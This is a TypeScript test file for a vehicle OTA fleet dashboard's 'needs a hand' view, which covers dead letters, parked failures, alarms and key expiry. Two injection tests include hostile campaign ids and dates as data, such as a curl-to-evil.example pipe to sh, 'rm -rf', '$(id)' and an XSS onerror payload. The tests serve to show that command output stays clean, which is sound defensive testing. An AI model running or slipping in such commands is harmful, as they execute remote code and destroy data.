import { test } from "uvu";
import * as assert from "uvu/assert";
import { QUEUE_ROLE } from "../../../../contracts/dashboard-documents.js";
import { alarmChanges, alarmsChangedSince, deadLetterCommand, expiryWarnings, shapeNeedsAHand } from "../../../../functions/dashboard-publisher/needs-a-hand-view.js";
import { otaReportSchema } from "../../../../telemetry/schema.js";
import { compositeAlarm, deadLetterMessage, metricAlarm, needsAHandInput } from "./support/factories.js";

const now = new Date("2026-11-26T18:00:00.000Z");
const minutesAgo = (minutes: number) => new Date(now.getTime() - minutes * 60_000);
const alarms = { metricAlarms: [metricAlarm({ StateValue: "ALARM", StateUpdatedTimestamp: minutesAgo(4), StateReason: "Threshold Crossed" })], compositeAlarms: [] };

test("lists parked failures newest first with their remedy and the fleetota command", () => {
  const doc = shapeNeedsAHand(needsAHandInput(now, alarms), undefined, now);

  assert.equal(doc.parked.items.map((item) => item.reason), ["invalid-update-message", "object-missing"]);
  assert.is(doc.parked.items[1]!.command, "fleetota parked --source telemetry-processor --reason object-missing");
  assert.match(doc.parked.items[1]!.remedy, /upload it again/);
  assert.equal(doc.parked.byReason, [{ reason: "invalid-update-message", count: 1 }, { reason: "object-missing", count: 1 }]);
  assert.equal([doc.parked.total, doc.parked.complete], [2, true]);
});

test("says why each dead letter is there and which command deals with it", () => {
  const doc = shapeNeedsAHand(needsAHandInput(now, alarms), undefined, now);
  const [telemetry, update] = doc.deadLetters.items;

  assert.match(telemetry!.reason, /^s3:\/\/fleetota-dev-data\/telemetry\/vehicle\/1HGCM82633A004352\/a\.ndjson\.gz: the telemetry processor failed/);
  assert.equal([telemetry!.kind, telemetry!.command, telemetry!.campaignId], ["processing-failed", "fleetota redrive --queue telemetry", null]);
  assert.is(deadLetterCommand(QUEUE_ROLE.TelemetryDeadLetter, { errorKind: "invalid-message", campaignId: "c-1" }), "fleetota redrive --queue telemetry --dry-run (malformed: a redrive cannot fix it; look, then fix the sender)");
  assert.equal([update!.kind, update!.reason, update!.receiveCount], ["processing-failed", "ProvisionedThroughputExceededException after 5 tries", 6]);
  assert.is(update!.command, "fleetota redrive --campaign c-20261126T140000-1a2b3c4d");
  assert.is(deadLetterCommand(QUEUE_ROLE.UpdateDeadLetter, { errorKind: "invalid-json" }), "fleetota redrive --dry-run (malformed: a redrive cannot fix it; look, then fix the sender)");
  assert.is(shapeNeedsAHand({ ...needsAHandInput(now, alarms), deadLetters: [{ queue: QUEUE_ROLE.UpdateDeadLetter, visible: 1, messages: [deadLetterMessage("not json")] }] }, undefined, now).deadLetters.items[0]!.kind, "invalid-json");
  // A command's dead letter goes back to the command queue, the only queue the update manager takes commands from.
  const pause = JSON.stringify({ kind: "command", idempotencyKey: "cmd:p", command: "pause", campaignId: "c-20261126T140000-1a2b3c4d", requestedBy: "alice", requestedAt: "2026-11-26T14:00:00Z" });
  const command = shapeNeedsAHand({ ...needsAHandInput(now, alarms), deadLetters: [{ queue: QUEUE_ROLE.CommandDeadLetter, visible: 1, messages: [deadLetterMessage(pause)] }] }, undefined, now).deadLetters.items[0]!;
  assert.equal([command.kind, command.command], ["processing-failed", "fleetota redrive --queue commands --campaign c-20261126T140000-1a2b3c4d"]);
  assert.is(deadLetterCommand(QUEUE_ROLE.CommandDeadLetter, { errorKind: "invalid-json" }), "fleetota redrive --queue commands --dry-run (malformed: a redrive cannot fix it; look, then fix the sender)");
});

test("never offers a command with a campaign id the shell would read as more (a vehicle's report names it)", () => {
  // A vehicle writes its status report's campaign id itself, and the telemetry schema takes any printable text.
  const hostile = ["c-1; curl -s https://evil.example/x | sh", "c-1 && rm -rf ~", "$(id)", "`id`", "c-1|sh", "--queue telemetry", "c-1 #", "c-1'", '"c-1"', "c-1\u202e"];
  const ota = (campaignId: string) => ({ jobId: `${campaignId}:1HGCM82633A004352`, campaignId, attempt: 1, sequence: 1, status: "FAILED", targetVersion: "2.5.0" });
  for (const campaignId of hostile) assert.ok(otaReportSchema.safeParse(ota(campaignId)).success, `the processor takes ${campaignId}`);
  const report = (campaignId: string) => ({ kind: "status-report", idempotencyKey: `${campaignId}:1HGCM82633A004352#1#1`, vin: "1HGCM82633A004352", campaignId, jobId: `${campaignId}:1HGCM82633A004352`, attempt: 1, sequence: 1, status: "FAILED", firmwareVersion: "2.4.0", reportedAt: now.toISOString() });
  const commands = (campaignId: string) =>
    shapeNeedsAHand({ ...needsAHandInput(now, alarms), deadLetters: [{ queue: QUEUE_ROLE.UpdateDeadLetter, visible: 1, messages: [deadLetterMessage(report(campaignId))] }] }, undefined, now).deadLetters.items.map((item) => item.command);

  for (const campaignId of hostile) assert.equal(commands(campaignId), ["fleetota redrive"], campaignId);
  assert.equal(commands("c-20261126T140000-1a2b3c4d"), ["fleetota redrive --campaign c-20261126T140000-1a2b3c4d"]);
  assert.equal(commands("c-1"), ["fleetota redrive --campaign c-1"]);
});

test("keeps every part it could read and names the one it could not", () => {
  const doc = shapeNeedsAHand(
    { ...needsAHandInput(now, alarms), parked: { error: "AccessDenied" }, deadLetters: [{ queue: QUEUE_ROLE.TelemetryDeadLetter, error: "QueueDoesNotExist" }] },
    undefined,
    now,
  );

  assert.equal(doc.errors, ["parked failures: AccessDenied", "telemetry-dlq: QueueDoesNotExist"]);
  assert.is(doc.alarmChanges.length, 1);
});

test("uses CloudWatch's alarm history when there is one, newest first, within a day", () => {
  const item = (minutes: number, state: string) => ({
    AlarmName: "fleetota-dev-update-failure-rate",
    Timestamp: minutesAgo(minutes),
    HistoryItemType: "StateUpdate" as const,
    HistoryData: JSON.stringify({ newState: { stateValue: state, stateReason: `went ${state}` } }),
  });

  const { changes, source } = alarmChanges({ alarms, alarmHistory: [item(30, "OK"), item(10, "ALARM"), item(25 * 60, "ALARM")] }, undefined, now);

  assert.is(source, "alarm-history");
  assert.equal(changes.map((change) => [change.state, change.reason]), [["ALARM", "went ALARM"], ["OK", "went OK"]]);
});

test("without alarm history, keeps the changes it observed run after run", () => {
  const first = shapeNeedsAHand(needsAHandInput(now, alarms), undefined, now);
  const later = new Date(now.getTime() + 10 * 60_000);
  const recovered = { metricAlarms: [metricAlarm({ StateValue: "OK", StateUpdatedTimestamp: new Date(now.getTime() + 8 * 60_000), StateReason: "back to normal" })], compositeAlarms: [] };

  const second = shapeNeedsAHand(needsAHandInput(later, recovered), first, later);

  assert.is(second.alarmChangesSource, "observed");
  assert.equal(second.alarmChanges.map((change) => [change.state, change.reason]), [["OK", "back to normal"], ["ALARM", "Threshold Crossed"]]);
});

test("asks for the history only of alarms whose state changed within the window (or whose update time is unknown)", () => {
  const since = minutesAgo(24 * 60);
  const alarmsRead = [
    metricAlarm({ AlarmName: "changed-an-hour-ago", StateUpdatedTimestamp: minutesAgo(60) }),
    metricAlarm({ AlarmName: "changed-two-days-ago", StateUpdatedTimestamp: minutesAgo(48 * 60) }),
    metricAlarm({ AlarmName: "changed-exactly-at-the-edge", StateUpdatedTimestamp: since }),
    compositeAlarm({ AlarmName: "composite-never-told" }),
    metricAlarm({ AlarmName: undefined, StateUpdatedTimestamp: minutesAgo(1) }),
  ];

  assert.equal(alarmsChangedSince(alarmsRead, since), ["changed-an-hour-ago", "changed-exactly-at-the-edge", "composite-never-told"]);
  assert.equal(alarmsChangedSince([metricAlarm({ StateUpdatedTimestamp: minutesAgo(25 * 60) })], since), []);
});

// ── the release calendar ──────────────────────────────────────────────────────────────────────

const DAY = 86_400_000;
const inDays = (days: number) => new Date(now.getTime() + days * DAY).toISOString();

test("release calendar: under 7 days a line with the days left and the command; 8 days none; expired a line saying so", () => {
  const published = [
    { what: "image targets", version: 4, expires: inDays(6.5) },
    { what: "director root", version: 2, expires: inDays(8) },
    { what: "image root", version: 1, expires: inDays(-0.5) },
  ] as const;

  const doc = shapeNeedsAHand({ ...needsAHandInput(now, alarms), expiry: { published } }, undefined, now);

  assert.equal(doc.expiry.warnings.map((warning) => warning.line), [
    "image root 1 EXPIRED at 2026-11-26T06:00:00.000Z: vehicles refuse it",
    "image targets 4 expire in 6 days (2026-12-03T06:00:00.000Z)",
  ]);
  assert.match(doc.expiry.warnings[1]!.remedy, /^fleetota release refresh --key /);
  assert.match(doc.expiry.warnings[0]!.remedy, /^fleetota keys rotate-image-root --image-root-key /);
  assert.equal([doc.expiry.readAt, doc.expiry.published.length], [now.toISOString(), 3]);
  assert.equal(expiryWarnings([{ what: "director root", version: 3, expires: inDays(6.9) }], now).map((warning) => warning.remedy.split(" ").slice(0, 3).join(" ")), ["fleetota keys rotate-director"]);
  assert.equal(expiryWarnings([{ what: "director root", version: 3, expires: inDays(7) }], now), []);
});

test("release calendar: between reads the last one is carried and its days counted again; a failed read is named and keeps it", () => {
  const read = shapeNeedsAHand({ ...needsAHandInput(now, alarms), expiry: { published: [{ what: "image targets", version: 4, expires: inDays(7.01) }] } }, undefined, now);
  assert.equal(read.expiry.warnings, []);

  const later = new Date(now.getTime() + 0.02 * DAY);
  const carried = shapeNeedsAHand({ ...needsAHandInput(later, alarms), expiry: undefined }, read, later);
  const failed = shapeNeedsAHand({ ...needsAHandInput(later, alarms), expiry: { error: "AccessDenied" } }, read, later);

  for (const doc of [carried, failed]) {
    assert.is(doc.expiry.readAt, now.toISOString());
    assert.equal(doc.expiry.warnings.map((warning) => [warning.version, warning.daysLeft]), [[4, 6]]);
  }
  assert.ok(failed.errors.includes("release calendar: AccessDenied"));
});

test("release calendar: no text of the metadata, a previous document or a vehicle reaches the line; only a kind, a version and a re-written date", () => {
  const hostile = "2026-11-27T00:00:00Z; curl https://evil.example | sh <img src=x onerror=alert(1)>";
  const input = { ...needsAHandInput(now, alarms), expiry: { published: [{ what: "image targets", version: 5, expires: hostile }] } } as const;
  const doc = shapeNeedsAHand(input, undefined, now);
  assert.equal(doc.expiry.warnings.map((warning) => warning.line), ["image targets 5 EXPIRED (unreadable date): vehicles refuse it"]);

  const forgedPrevious = { ...doc, expiry: { readAt: now.toISOString(), published: [{ what: "rm -rf / #" as never, version: 1, expires: inDays(1) }, { what: "image root" as const, version: 1.5, expires: inDays(1) }], warnings: [] } };
  assert.equal(shapeNeedsAHand({ ...needsAHandInput(now, alarms), expiry: undefined }, forgedPrevious, now).expiry, { readAt: now.toISOString(), published: [], warnings: [] });

  const text = JSON.stringify(doc.expiry);
  for (const part of ["curl", "onerror", "evil", ...doc.parked.items.map((item) => item.detail)]) assert.not.ok(text.includes(part), part);
});

test.run();
